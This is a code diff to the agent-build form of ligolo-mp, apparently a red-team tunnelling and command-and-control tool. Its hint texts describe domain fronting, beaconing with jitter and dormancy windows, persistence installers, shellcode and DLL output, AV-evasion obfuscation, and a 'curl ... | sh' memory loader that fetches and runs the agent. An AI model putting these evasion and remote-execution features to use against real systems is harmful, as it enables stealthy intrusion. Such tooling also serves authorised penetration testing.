@@ -1,9 +1,15 @@
 package forms
 
 import (
+	"fmt"
+	"slices"
+	"strconv"
 	"strings"
 
 	"github.com/rivo/tview"
+	"github.com/ttpreport/ligolo-mp/v2/cmd/client/tui/utils"
+	"github.com/ttpreport/ligolo-mp/v2/internal/agentbuild"
+	"github.com/ttpreport/ligolo-mp/v2/internal/gogo"
 )
 
 var (
@@ -13,7 +19,21 @@ var (
 	}
 
 	generate_servers = FormVal[string]{
-		Hint: "Server list, one per line - they are tried sequentially until a successful connection.\n\nExample:\n1.3.3.7:11601\n7.3.3.1:1234\n8.0.0.85:1337",
+		Hint: "Server list, one per line - they are tried in the order the rotation picks. Retries and backoff can be overridden per server. Prefix a server with quic:// to connect over QUIC on UDP, wss:// for a WebSocket over HTTPS, e.g. wss://cdn.example.com:443/updates?host=c2.example.com to front a domain, or dns:// as a slow last resort through DNS, e.g. dns://t.example.com:53?doh=https://1.1.1.1/dns-query. The server has to listen with the transport too.\n\nExample:\n1.3.3.7:11601\n7.3.3.1:1234 retries=3 backoff=30s\n8.0.0.85:1337",
+	}
+
+	generate_rotation = FormVal[FormSelectVal]{
+		Hint: "How the agent picks the next server, after a failed connection or a lost session.\n\nFailover: always starts over from the first server\nRound-robin: continues with the server after the last one it was connected to\nRandom: shuffles the servers on every pass",
+	}
+
+	generate_retries = FormVal[string]{
+		Last: "1",
+		Hint: "Connection attempts per server before moving to the next one.\n\nExample:\n3",
+	}
+
+	generate_backoff = FormVal[string]{
+		Last: "5s",
+		Hint: "Wait before retrying the same server, doubled on every attempt up to 10 minutes.\n\nExample:\n5s\n1m",
 	}
 
 	generate_proxy = FormVal[string]{
@@ -21,7 +41,71 @@ var (
 	}
 
 	generate_ignoreEnvProxy = FormVal[bool]{
-		Hint: "If checked, will ignore proxies configured via environment variables and attempt a direct connection.",
+		Hint: "If checked, will ignore the system proxy configuration (environment variables, Windows Internet Settings, PAC files and WPAD) and attempt a direct connection.",
+	}
+
+	generate_userAgent = FormVal[string]{
+		Hint: "User-Agent the agent sends to http and https proxies. Leave empty for Go's default, which stands out in proxy logs.\n\nExample:\nMozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
+	}
+
+	generate_profile = FormVal[FormSelectVal]{
+		Hint: "Transport profile the agent wraps its connections with: TLS fingerprint, HTTP headers and URIs, jitter and padding. Profiles are written by admins on the server, its listeners have to use the same one.",
+	}
+
+	generate_netns = FormVal[string]{
+		Hint: "Linux only. Network namespace to perform outbound connections from: name (ip netns), PID or nsfs path. Leave empty to use the agent's own namespace.\n\nExample:\nblue\n1337\n/proc/1337/ns/net",
+	}
+
+	generate_vrf = FormVal[string]{
+		Hint: "Linux only. VRF device to bind outbound connections to. Leave empty to use the default routing table.\n\nExample:\nvrf-mgmt",
+	}
+
+	generate_beacon = FormVal[string]{
+		Hint: "Low-and-slow mode. The agent drops the tunnel and only checks in at this interval, unless an operator wakes it up. Leave empty to keep it connected.\n\nExample:\n30m\n4h",
+	}
+
+	generate_jitter = FormVal[string]{
+		Hint: "Percentage reconnect waits and beacon check-ins are randomly shortened by, so they don't form a regular pattern. Can be changed later from the session menu.\n\nExample:\n20",
+	}
+
+	generate_workingHours = FormVal[string]{
+		Hint: "Windows during which the agent stays dormant, in the target's local time: it doesn't connect, and drops the tunnel when one starts. Comma separated, days are optional. Leave empty to reach out around the clock.\n\nExample:\nmon-fri 08:00-18:00\nsat-sun 00:00-24:00, mon-fri 22:00-06:00",
+	}
+
+	generate_muxKeepAlive = FormVal[string]{
+		Hint: "How often the agent pings the server over the session. It reconnects when pings go unanswered, so shorter intervals notice a dead server sooner at the cost of more traffic. Leave empty for 30s.\n\nExample:\n10s\n2m",
+	}
+
+	generate_muxWriteTimeout = FormVal[string]{
+		Hint: "How long a ping or a write to the server may take before the agent gives the connection up and reconnects. Raise it for slow links such as DNS. Leave empty for 10s.\n\nExample:\n5s\n1m",
+	}
+
+	generate_muxMaxStreams = FormVal[string]{
+		Hint: "Streams the server may have open on the agent at once, one per relayed connection. Further streams are refused, which caps what a scan through the agent can pile up on the target. Leave empty for no limit.\n\nExample:\n512",
+	}
+
+	generate_pinning = FormVal[FormSelectVal]{
+		Hint: "How the agent checks the server it connects to.\n\nCA: the server certificate has to be issued by the server CA\nSPKI: it also has to carry the key of the agent server certificate, or of a listener with its own certificate. A stolen CA key then isn't enough to impersonate the server, but agents stop connecting if those keys change",
+	}
+
+	generate_ca = FormVal[string]{
+		Hint: "Intermediate CA issuing the agent certificate. Leave empty for the current engagement's, or the server CA if it has none.\n\nRevoking the CA refuses every agent it issued a certificate to.",
+	}
+
+	generate_campaign = FormVal[string]{
+		Hint: "Optional tag recorded with the build, along with your name and the build time. Recovered agents can be looked up by it during cleanup.\n\nExample:\nacme-internal-2024",
+	}
+
+	generate_template = FormVal[FormSelectVal]{
+		Hint: "Agent source to build from. Templates other than the default are uploaded by admins and replace agent.go, they get the same settings as the built-in one.",
+	}
+
+	generate_signingKey = FormVal[FormSelectVal]{
+		Hint: "Key to sign the agent with, uploaded by admins. Authenticode keys sign Windows executables and DLLs, GPG keys produce a detached signature saved next to ELF agents.",
+	}
+
+	generate_hooks = FormVal[string]{
+		Hint: "Comma separated post-build hooks the agent goes through before signing, in order. Hooks are tools (packers, signer scripts...) configured by admins on the server.",
 	}
 
 	generate_goos = FormVal[FormSelectVal]{
@@ -29,12 +113,62 @@ var (
 	}
 
 	generate_goarch = FormVal[FormSelectVal]{
-		Hint: "Target architecture",
+		Hint: "Target architecture, depends on the OS.\n\narmv5/6/7: 32-bit ARM revisions (GOARM)\nmips*-softfloat: MIPS without an FPU, common on routers (GOMIPS)",
+	}
+
+	generate_format = FormVal[FormSelectVal]{
+		Hint: "Output format.\n\nExecutable: regular EXE/ELF\nWindows service: EXE that talks to the service control manager (sc create)\nDLL: Windows DLL, starts on load, exports Start and DllRegisterServer (rundll32, regsvr32)\nShared object: Linux .so, starts on load (LD_PRELOAD)\nShellcode: position-independent Windows shellcode for injection by other tooling, needs donut on the server",
+	}
+
+	generate_staged = FormVal[bool]{
+		Hint: "Executable only. Saves a small stager instead of the agent, it downloads the full agent from the server over the agent channel and runs it (from memory on Linux). Stagers only support socks5 proxies.",
+	}
+
+	generate_exec = FormVal[bool]{
+		Hint: "Compiles command execution into the agent, so operators can run shell commands on the target from the session menu, e.g. to fix routes or clean up. Agents built without it can't run anything, whatever the server asks.",
+	}
+
+	generate_persist = FormVal[bool]{
+		Hint: "Compiles persistence installers into the agent. Nothing is installed when it starts, operators pick a method from the session menu and can remove it from there.\n\nWindows: run key, scheduled task, or a service for service builds\nLinux: systemd unit, cron\n\nExecutables and services only, not staged.",
+	}
+
+	generate_hostInfo = FormVal[bool]{
+		Hint: "Compiles host information collection into the agent: OS version, user and privileges, domain membership, DNS servers and default gateways, reported on connect and refreshed from the session menu. Leave it out where reading those is too loud.",
+	}
+
+	generate_loader = FormVal[bool]{
+		Hint: "Linux executables only. Also saves a shell script next to the agent, named after it with .sh appended, that carries the agent and runs it from an anonymous memory file (memfd), so the agent never touches disk. Serve it and run it with a one-liner such as:\n\ncurl -fsSL https://host/agent.sh | sh\n\nIts arguments go to the agent. It needs python 3.8+ or perl on the target.",
+	}
+
+	generate_override = FormVal[bool]{
+		Hint: "Lets whoever launches the agent replace its servers and proxy, so one build serves several labs:\n\nagent -servers host1:443,host2:443 -proxy http://proxy:8080\n\nor the LIGOLO_SERVERS and LIGOLO_PROXY environment variables, flags win. -proxy direct drops the embedded proxy. Servers still need a certificate from this server's CA. Meant for lab testing, leave it out of engagement builds.",
+	}
+
+	generate_keySource = FormVal[FormSelectVal]{
+		Hint: "Encrypts the servers, proxy and certificates embedded in the agent, so they don't show up in its strings. The key is not embedded, the agent derives it when it starts and silently exits if it's wrong.\n\nPassphrase: given to the agent with -key, executables and services only\nHostname: the target's hostname, without domain and case insensitive",
+	}
+
+	generate_key = FormVal[string]{
+		Hint: "Passphrase or hostname the config is encrypted with, it isn't recorded on the server.\n\nExample:\nWKS-042",
 	}
 
 	generate_obfuscate = FormVal[bool]{
 		Hint: "Produces obfuscated binary instead of a regular one - might help with AV evasion.",
 	}
+
+	generate_garbleSeed = FormVal[string]{
+		Hint: "Obfuscation only. Base64 garble seed, at least 8 bytes. Leave empty for a random one - the seed used is shown after the build and recorded on the server, reuse it to reproduce the obfuscation.",
+	}
+
+	generate_garbleTiny = FormVal[bool]{
+		Last: true,
+		Hint: "Obfuscation only. Strips extra runtime information such as panic messages and file names (garble -tiny).",
+	}
+
+	generate_garbleLiterals = FormVal[bool]{
+		Last: true,
+		Hint: "Obfuscation only. Obfuscates string and numeric literals (garble -literals), makes builds slower and bigger.",
+	}
 )
 
 type GenerateForm struct {
@@ -44,7 +178,7 @@ type GenerateForm struct {
 	cancelBtn *tview.Button
 }
 
-func NewGenerateForm() *GenerateForm {
+func NewGenerateForm(templates []string, signingKeys []string, hooks []*agentbuild.Hook, profiles []string) *GenerateForm {
 	gen := &GenerateForm{
 		Flex:      *tview.NewFlex(),
 		form:      tview.NewForm(),
@@ -84,6 +218,42 @@ func NewGenerateForm() *GenerateForm {
 	})
 	gen.form.AddFormItem(serversField)
 
+	rotations := []string{"failover", "round-robin", "random"}
+	rotationField := tview.NewDropDown()
+	rotationField.SetLabel("Rotation")
+	rotationField.SetFocusFunc(func() {
+		hintBox.SetText(generate_rotation.Hint)
+	})
+	rotationField.SetOptions([]string{"Failover", "Round-robin", "Random"}, func(option string, index int) {
+		generate_rotation.Last.ID = index
+		generate_rotation.Last.Value = rotations[index]
+	})
+	rotationField.SetCurrentOption(generate_rotation.Last.ID)
+	gen.form.AddFormItem(rotationField)
+
+	retriesField := tview.NewInputField()
+	retriesField.SetLabel("Retries")
+	retriesField.SetText(generate_retries.Last)
+	retriesField.SetAcceptanceFunc(tview.InputFieldInteger)
+	retriesField.SetFocusFunc(func() {
+		hintBox.SetText(generate_retries.Hint)
+	})
+	retriesField.SetChangedFunc(func(text string) {
+		generate_retries.Last = text
+	})
+	gen.form.AddFormItem(retriesField)
+
+	backoffField := tview.NewInputField()
+	backoffField.SetLabel("Backoff")
+	backoffField.SetText(generate_backoff.Last)
+	backoffField.SetFocusFunc(func() {
+		hintBox.SetText(generate_backoff.Hint)
+	})
+	backoffField.SetChangedFunc(func(text string) {
+		generate_backoff.Last = text
+	})
+	gen.form.AddFormItem(backoffField)
+
 	proxyField := tview.NewInputField()
 	proxyField.SetLabel("Proxy")
 	proxyField.SetText(generate_proxy.Last)
@@ -106,6 +276,208 @@ func NewGenerateForm() *GenerateForm {
 	})
 	gen.form.AddFormItem(ignoreEnvProxyField)
 
+	userAgentField := tview.NewInputField()
+	userAgentField.SetLabel("User-Agent")
+	userAgentField.SetText(generate_userAgent.Last)
+	userAgentField.SetFocusFunc(func() {
+		hintBox.SetText(generate_userAgent.Hint)
+	})
+	userAgentField.SetChangedFunc(func(text string) {
+		generate_userAgent.Last = text
+	})
+	gen.form.AddFormItem(userAgentField)
+
+	profileField := tview.NewDropDown()
+	profileField.SetLabel("Transport profile")
+	profileField.SetFocusFunc(func() {
+		hintBox.SetText(generate_profile.Hint)
+	})
+	profileOptions := append([]string{"none"}, profiles...)
+	profileField.SetOptions(profileOptions, func(option string, index int) {
+		generate_profile.Last.ID = index
+		generate_profile.Last.Value = ""
+		if index > 0 {
+			generate_profile.Last.Value = option
+		}
+	})
+	profileField.SetCurrentOption(max(slices.Index(profileOptions, generate_profile.Last.Value), 0))
+	gen.form.AddFormItem(profileField)
+
+	netnsField := tview.NewInputField()
+	netnsField.SetLabel("Netns")
+	netnsField.SetText(generate_netns.Last)
+	netnsField.SetFocusFunc(func() {
+		hintBox.SetText(generate_netns.Hint)
+	})
+	netnsField.SetChangedFunc(func(text string) {
+		generate_netns.Last = text
+	})
+	gen.form.AddFormItem(netnsField)
+
+	vrfField := tview.NewInputField()
+	vrfField.SetLabel("VRF")
+	vrfField.SetText(generate_vrf.Last)
+	vrfField.SetFocusFunc(func() {
+		hintBox.SetText(generate_vrf.Hint)
+	})
+	vrfField.SetChangedFunc(func(text string) {
+		generate_vrf.Last = text
+	})
+	gen.form.AddFormItem(vrfField)
+
+	beaconField := tview.NewInputField()
+	beaconField.SetLabel("Beacon")
+	beaconField.SetText(generate_beacon.Last)
+	beaconField.SetFocusFunc(func() {
+		hintBox.SetText(generate_beacon.Hint)
+	})
+	beaconField.SetChangedFunc(func(text string) {
+		generate_beacon.Last = text
+	})
+	gen.form.AddFormItem(beaconField)
+
+	jitterField := tview.NewInputField()
+	jitterField.SetLabel("Jitter (%)")
+	jitterField.SetText(generate_jitter.Last)
+	jitterField.SetAcceptanceFunc(tview.InputFieldInteger)
+	jitterField.SetFocusFunc(func() {
+		hintBox.SetText(generate_jitter.Hint)
+	})
+	jitterField.SetChangedFunc(func(text string) {
+		generate_jitter.Last = text
+	})
+	gen.form.AddFormItem(jitterField)
+
+	workingHoursField := tview.NewInputField()
+	workingHoursField.SetLabel("Working hours")
+	workingHoursField.SetText(generate_workingHours.Last)
+	workingHoursField.SetFocusFunc(func() {
+		hintBox.SetText(generate_workingHours.Hint)
+	})
+	workingHoursField.SetChangedFunc(func(text string) {
+		generate_workingHours.Last = text
+	})
+	gen.form.AddFormItem(workingHoursField)
+
+	muxFields := []struct {
+		label   string
+		val     *FormVal[string]
+		integer bool
+	}{
+		{"Mux keepalive", &generate_muxKeepAlive, false},
+		{"Mux write timeout", &generate_muxWriteTimeout, false},
+		{"Mux max streams", &generate_muxMaxStreams, true},
+	}
+	for _, field := range muxFields {
+		val := field.val
+
+		input := tview.NewInputField()
+		input.SetLabel(field.label)
+		input.SetText(val.Last)
+		if field.integer {
+			input.SetAcceptanceFunc(tview.InputFieldInteger)
+		}
+		input.SetFocusFunc(func() {
+			hintBox.SetText(val.Hint)
+		})
+		input.SetChangedFunc(func(text string) {
+			val.Last = text
+		})
+		gen.form.AddFormItem(input)
+	}
+
+	pinnings := []string{agentbuild.PinningCA, agentbuild.PinningSPKI}
+	pinningField := tview.NewDropDown()
+	pinningField.SetLabel("Server pinning")
+	pinningField.SetFocusFunc(func() {
+		hintBox.SetText(generate_pinning.Hint)
+	})
+	pinningField.SetOptions([]string{"CA", "SPKI"}, func(option string, index int) {
+		generate_pinning.Last.ID = index
+		generate_pinning.Last.Value = pinnings[index]
+	})
+	pinningField.SetCurrentOption(generate_pinning.Last.ID)
+	gen.form.AddFormItem(pinningField)
+
+	caField := tview.NewInputField()
+	caField.SetLabel("CA")
+	caField.SetText(generate_ca.Last)
+	caField.SetFocusFunc(func() {
+		hintBox.SetText(generate_ca.Hint)
+	})
+	caField.SetChangedFunc(func(text string) {
+		generate_ca.Last = text
+	})
+	gen.form.AddFormItem(caField)
+
+	campaignField := tview.NewInputField()
+	campaignField.SetLabel("Campaign")
+	campaignField.SetText(generate_campaign.Last)
+	campaignField.SetFocusFunc(func() {
+		hintBox.SetText(generate_campaign.Hint)
+	})
+	campaignField.SetChangedFunc(func(text string) {
+		generate_campaign.Last = text
+	})
+	gen.form.AddFormItem(campaignField)
+
+	templateField := tview.NewDropDown()
+	templateField.SetLabel("Template")
+	templateField.SetFocusFunc(func() {
+		hintBox.SetText(generate_template.Hint)
+	})
+	templateOptions := append([]string{agentbuild.DefaultTemplate}, templates...)
+	templateField.SetOptions(templateOptions, func(option string, index int) {
+		generate_template.Last.ID = index
+		generate_template.Last.Value = option
+	})
+	// the previous pick may have been removed since
+	templateField.SetCurrentOption(max(slices.Index(templateOptions, generate_template.Last.Value), 0))
+	gen.form.AddFormItem(templateField)
+
+	signingKeyField := tview.NewDropDown()
+	signingKeyField.SetLabel("Signing key")
+	signingKeyField.SetFocusFunc(func() {
+		hintBox.SetText(generate_signingKey.Hint)
+	})
+	signingKeyOptions := append([]string{"none"}, signingKeys...)
+	signingKeyField.SetOptions(signingKeyOptions, func(option string, index int) {
+		generate_signingKey.Last.ID = index
+		generate_signingKey.Last.Value = ""
+		if index > 0 {
+			generate_signingKey.Last.Value = option
+		}
+	})
+	signingKeyField.SetCurrentOption(max(slices.Index(signingKeyOptions, generate_signingKey.Last.Value), 0))
+	gen.form.AddFormItem(signingKeyField)
+
+	hooksHint := generate_hooks.Hint
+	if len(hooks) > 0 {
+		hooksHint += "\n\nAvailable:"
+		for _, hook := range hooks {
+			hooksHint += fmt.Sprintf("\n%s: %s", hook.Name, hook.Description)
+		}
+	} else {
+		hooksHint += "\n\nNone are configured."
+	}
+
+	hooksField := tview.NewInputField()
+	hooksField.SetLabel("Hooks")
+	hooksField.SetText(generate_hooks.Last)
+	hooksField.SetFocusFunc(func() {
+		hintBox.SetText(hooksHint)
+	})
+	hooksField.SetChangedFunc(func(text string) {
+		generate_hooks.Last = text
+	})
+	gen.form.AddFormItem(hooksField)
+
+	goarchField := tview.NewDropDown()
+	goarchField.SetLabel("Arch")
+	goarchField.SetFocusFunc(func() {
+		hintBox.SetText(generate_goarch.Hint)
+	})
+
 	goosField := tview.NewDropDown()
 	goosField.SetLabel("OS")
 	goosField.SetFocusFunc(func() {
@@ -114,21 +486,125 @@ func NewGenerateForm() *GenerateForm {
 	goosField.SetOptions([]string{"Windows", "Linux", "FreeBSD", "Darwin"}, func(option string, index int) {
 		generate_goos.Last.ID = index
 		generate_goos.Last.Value = strings.ToLower(option)
+
+		// only offer architectures the agent can be built for on this OS
+		archs := gogo.AgentTargets[generate_goos.Last.Value]
+		current := slices.Index(archs, generate_goarch.Last.Value)
+		if current < 0 {
+			current = 0
+		}
+		goarchField.SetOptions(archs, func(option string, index int) {
+			generate_goarch.Last.ID = index
+			generate_goarch.Last.Value = option
+		})
+		goarchField.SetCurrentOption(current)
 	})
 	goosField.SetCurrentOption(generate_goos.Last.ID)
 	gen.form.AddFormItem(goosField)
+	gen.form.AddFormItem(goarchField)
 
-	goarchField := tview.NewDropDown()
-	goarchField.SetLabel("Arch")
-	goarchField.SetFocusFunc(func() {
-		hintBox.SetText(generate_goarch.Hint)
+	formats := []string{"exe", "service", "dll", "so", "shellcode"}
+	formatField := tview.NewDropDown()
+	formatField.SetLabel("Format")
+	formatField.SetFocusFunc(func() {
+		hintBox.SetText(generate_format.Hint)
 	})
-	goarchField.SetOptions([]string{"amd64", "386", "arm64", "arm"}, func(option string, index int) {
-		generate_goarch.Last.ID = index
-		generate_goarch.Last.Value = option
+	formatField.SetOptions([]string{"Executable", "Windows service", "DLL", "Shared object", "Shellcode"}, func(option string, index int) {
+		generate_format.Last.ID = index
+		generate_format.Last.Value = formats[index]
 	})
-	goarchField.SetCurrentOption(generate_goarch.Last.ID)
-	gen.form.AddFormItem(goarchField)
+	formatField.SetCurrentOption(generate_format.Last.ID)
+	gen.form.AddFormItem(formatField)
+
+	stagedField := tview.NewCheckbox()
+	stagedField.SetLabel("Staged")
+	stagedField.SetChecked(generate_staged.Last)
+	stagedField.SetFocusFunc(func() {
+		hintBox.SetText(generate_staged.Hint)
+	})
+	stagedField.SetChangedFunc(func(checked bool) {
+		generate_staged.Last = checked
+	})
+	gen.form.AddFormItem(stagedField)
+
+	execField := tview.NewCheckbox()
+	execField.SetLabel("Command exec")
+	execField.SetChecked(generate_exec.Last)
+	execField.SetFocusFunc(func() {
+		hintBox.SetText(generate_exec.Hint)
+	})
+	execField.SetChangedFunc(func(checked bool) {
+		generate_exec.Last = checked
+	})
+	gen.form.AddFormItem(execField)
+
+	persistField := tview.NewCheckbox()
+	persistField.SetLabel("Persistence")
+	persistField.SetChecked(generate_persist.Last)
+	persistField.SetFocusFunc(func() {
+		hintBox.SetText(generate_persist.Hint)
+	})
+	persistField.SetChangedFunc(func(checked bool) {
+		generate_persist.Last = checked
+	})
+	gen.form.AddFormItem(persistField)
+
+	hostInfoField := tview.NewCheckbox()
+	hostInfoField.SetLabel("Host info")
+	hostInfoField.SetChecked(generate_hostInfo.Last)
+	hostInfoField.SetFocusFunc(func() {
+		hintBox.SetText(generate_hostInfo.Hint)
+	})
+	hostInfoField.SetChangedFunc(func(checked bool) {
+		generate_hostInfo.Last = checked
+	})
+	gen.form.AddFormItem(hostInfoField)
+
+	loaderField := tview.NewCheckbox()
+	loaderField.SetLabel("Memory loader")
+	loaderField.SetChecked(generate_loader.Last)
+	loaderField.SetFocusFunc(func() {
+		hintBox.SetText(generate_loader.Hint)
+	})
+	loaderField.SetChangedFunc(func(checked bool) {
+		generate_loader.Last = checked
+	})
+	gen.form.AddFormItem(loaderField)
+
+	overrideField := tview.NewCheckbox()
+	overrideField.SetLabel("Server override")
+	overrideField.SetChecked(generate_override.Last)
+	overrideField.SetFocusFunc(func() {
+		hintBox.SetText(generate_override.Hint)
+	})
+	overrideField.SetChangedFunc(func(checked bool) {
+		generate_override.Last = checked
+	})
+	gen.form.AddFormItem(overrideField)
+
+	keySources := []string{"", "passphrase", "hostname"}
+	keySourceField := tview.NewDropDown()
+	keySourceField.SetLabel("Encrypt config")
+	keySourceField.SetFocusFunc(func() {
+		hintBox.SetText(generate_keySource.Hint)
+	})
+	keySourceField.SetOptions([]string{"No", "Passphrase", "Hostname"}, func(option string, index int) {
+		generate_keySource.Last.ID = index
+		generate_keySource.Last.Value = keySources[index]
+	})
+	keySourceField.SetCurrentOption(generate_keySource.Last.ID)
+	gen.form.AddFormItem(keySourceField)
+
+	keyField := tview.NewInputField()
+	keyField.SetLabel("Config key")
+	keyField.SetText(generate_key.Last)
+	keyField.SetFocusFunc(func() {
+		hintBox.SetText(generate_key.Hint)
+	})
+	keyField.SetChangedFunc(func(text string) {
+		generate_key.Last = text
+	})
+	gen.form.AddFormItem(keyField)
 
 	obfuscateField := tview.NewCheckbox()
 	obfuscateField.SetLabel("Obfuscate")
@@ -144,19 +620,46 @@ func NewGenerateForm() *GenerateForm {
 	})
 	gen.form.AddFormItem(obfuscateField)
 
+	garbleSeedField := tview.NewInputField()
+	garbleSeedField.SetLabel("Garble seed")
+	garbleSeedField.SetText(generate_garbleSeed.Last)
+	garbleSeedField.SetFocusFunc(func() {
+		hintBox.SetText(generate_garbleSeed.Hint)
+	})
+	garbleSeedField.SetChangedFunc(func(text string) {
+		generate_garbleSeed.Last = text
+	})
+	gen.form.AddFormItem(garbleSeedField)
+
+	garbleTinyField := tview.NewCheckbox()
+	garbleTinyField.SetLabel("Garble tiny")
+	garbleTinyField.SetChecked(generate_garbleTiny.Last)
+	garbleTinyField.SetFocusFunc(func() {
+		hintBox.SetText(generate_garbleTiny.Hint)
+	})
+	garbleTinyField.SetChangedFunc(func(checked bool) {
+		generate_garbleTiny.Last = checked
+	})
+	gen.form.AddFormItem(garbleTinyField)
+
+	garbleLiteralsField := tview.NewCheckbox()
+	garbleLiteralsField.SetLabel("Garble literals")
+	garbleLiteralsField.SetChecked(generate_garbleLiterals.Last)
+	garbleLiteralsField.SetFocusFunc(func() {
+		hintBox.SetText(generate_garbleLiterals.Hint)
+	})
+	garbleLiteralsField.SetChangedFunc(func(checked bool) {
+		generate_garbleLiterals.Last = checked
+	})
+	gen.form.AddFormItem(garbleLiteralsField)
+
 	gen.form.AddButton("Submit", nil)
+	gen.form.AddButton("Render", nil)
+	gen.form.AddButton("Resources", nil)
+	gen.form.AddButton("Guardrails", nil)
 	gen.form.AddButton("Cancel", nil)
 
-	formFlex := tview.NewFlex().SetDirection(tview.FlexRow).
-		AddItem(gen.form, 23, 1, true).
-		AddItem(hintBox, 11, 1, false)
-
-	gen.AddItem(nil, 0, 1, false).
-		AddItem(tview.NewFlex().SetDirection(tview.FlexRow).
-			AddItem(nil, 0, 1, false).
-			AddItem(formFlex, 0, 1, true).
-			AddItem(nil, 0, 1, false), 0, 3, true).
-		AddItem(nil, 0, 1, false)
+	utils.LayoutForm(&gen.Flex, gen.form, 75, hintBox, 11, 3)
 
 	return gen
 }
@@ -165,24 +668,112 @@ func (form *GenerateForm) GetID() string {
 	return "generate_page"
 }
 
-func (form *GenerateForm) SetSubmitFunc(f func(path string, servers string, os string, arch string, obfuscate bool, proxy string, ignoreEnvProxy bool)) {
-	btnId := form.form.GetButtonIndex("Submit")
-	submitBtn := form.form.GetButton(btnId)
-	submitBtn.SetSelectedFunc(func() {
+// GenerateFunc gets everything the generate form collected
+type GenerateFunc func(path string, servers string, os string, arch string, format string, staged bool, exec bool, persist bool, hostInfo bool, loader bool, override bool, obfuscate bool, garble gogo.GarbleOptions, resources WindowsResources, proxy string, ignoreEnvProxy bool, userAgent string, profile string, netns string, vrf string, beacon string, campaign string, template string, signingKey string, hooks []string, keySource string, key string, rotation string, retries string, backoff string, guardrails agentbuild.Guardrails, schedule agentbuild.Schedule, mux agentbuild.Multiplexer, pinning string, ca string)
+
+func (form *GenerateForm) SetSubmitFunc(f GenerateFunc) {
+	form.setButtonFunc("Submit", f)
+}
+
+// SetRenderFunc is called to preview the agent.go the current parameters render to, nothing gets compiled
+func (form *GenerateForm) SetRenderFunc(f GenerateFunc) {
+	form.setButtonFunc("Render", f)
+}
+
+func (form *GenerateForm) setButtonFunc(label string, f GenerateFunc) {
+	btnId := form.form.GetButtonIndex(label)
+	btn := form.form.GetButton(btnId)
+	btn.SetSelectedFunc(func() {
 		f(
 			generate_saveTo.Last,
 			generate_servers.Last,
 			generate_goos.Last.Value,
 			generate_goarch.Last.Value,
+			generate_format.Last.Value,
+			generate_staged.Last,
+			generate_exec.Last,
+			generate_persist.Last,
+			generate_hostInfo.Last,
+			generate_loader.Last,
+			generate_override.Last,
 			generate_obfuscate.Last,
+			gogo.GarbleOptions{
+				Seed:     strings.TrimSpace(generate_garbleSeed.Last),
+				Tiny:     generate_garbleTiny.Last,
+				Literals: generate_garbleLiterals.Last,
+			},
+			currentWindowsResources(),
 			generate_proxy.Last,
 			generate_ignoreEnvProxy.Last,
+			strings.TrimSpace(generate_userAgent.Last),
+			generate_profile.Last.Value,
+			generate_netns.Last,
+			generate_vrf.Last,
+			strings.TrimSpace(generate_beacon.Last),
+			generate_campaign.Last,
+			generate_template.Last.Value,
+			generate_signingKey.Last.Value,
+			splitList(generate_hooks.Last),
+			generate_keySource.Last.Value,
+			generate_key.Last,
+			generate_rotation.Last.Value,
+			strings.TrimSpace(generate_retries.Last),
+			strings.TrimSpace(generate_backoff.Last),
+			currentGuardrails(),
+			currentSchedule(),
+			currentMultiplexer(),
+			generate_pinning.Last.Value,
+			strings.TrimSpace(generate_ca.Last),
 		)
 	})
 }
 
+// SetResourcesFunc is called to edit the icon, manifest and version info embedded in windows agents
+func (form *GenerateForm) SetResourcesFunc(f func()) {
+	btnId := form.form.GetButtonIndex("Resources")
+	resourcesBtn := form.form.GetButton(btnId)
+	resourcesBtn.SetSelectedFunc(f)
+}
+
+// SetGuardrailsFunc is called to edit the environment the agent is keyed to
+func (form *GenerateForm) SetGuardrailsFunc(f func()) {
+	btnId := form.form.GetButtonIndex("Guardrails")
+	guardrailsBtn := form.form.GetButton(btnId)
+	guardrailsBtn.SetSelectedFunc(f)
+}
+
 func (form *GenerateForm) SetCancelFunc(f func()) {
 	btnId := form.form.GetButtonIndex("Cancel")
 	submitBtn := form.form.GetButton(btnId)
 	submitBtn.SetSelectedFunc(f)
 }
+
+func currentSchedule() agentbuild.Schedule {
+	jitter, _ := strconv.Atoi(generate_jitter.Last)
+
+	return agentbuild.Schedule{
+		Jitter:       uint8(min(max(jitter, 0), 100)),
+		WorkingHours: strings.TrimSpace(generate_workingHours.Last),
+	}
+}
+
+func currentMultiplexer() agentbuild.Multiplexer {
+	maxStreams, _ := strconv.Atoi(generate_muxMaxStreams.Last)
+
+	return agentbuild.Multiplexer{
+		KeepAlive:    strings.TrimSpace(generate_muxKeepAlive.Last),
+		WriteTimeout: strings.TrimSpace(generate_muxWriteTimeout.Last),
+		MaxStreams:   uint32(max(maxStreams, 0)),
+	}
+}
+
+func splitList(text string) []string {
+	var result []string
+	for _, name := range strings.Split(text, ",") {
+		if name = strings.TrimSpace(name); name != "" {
+			result = append(result, name)
+		}
+	}
+
+	return result
+}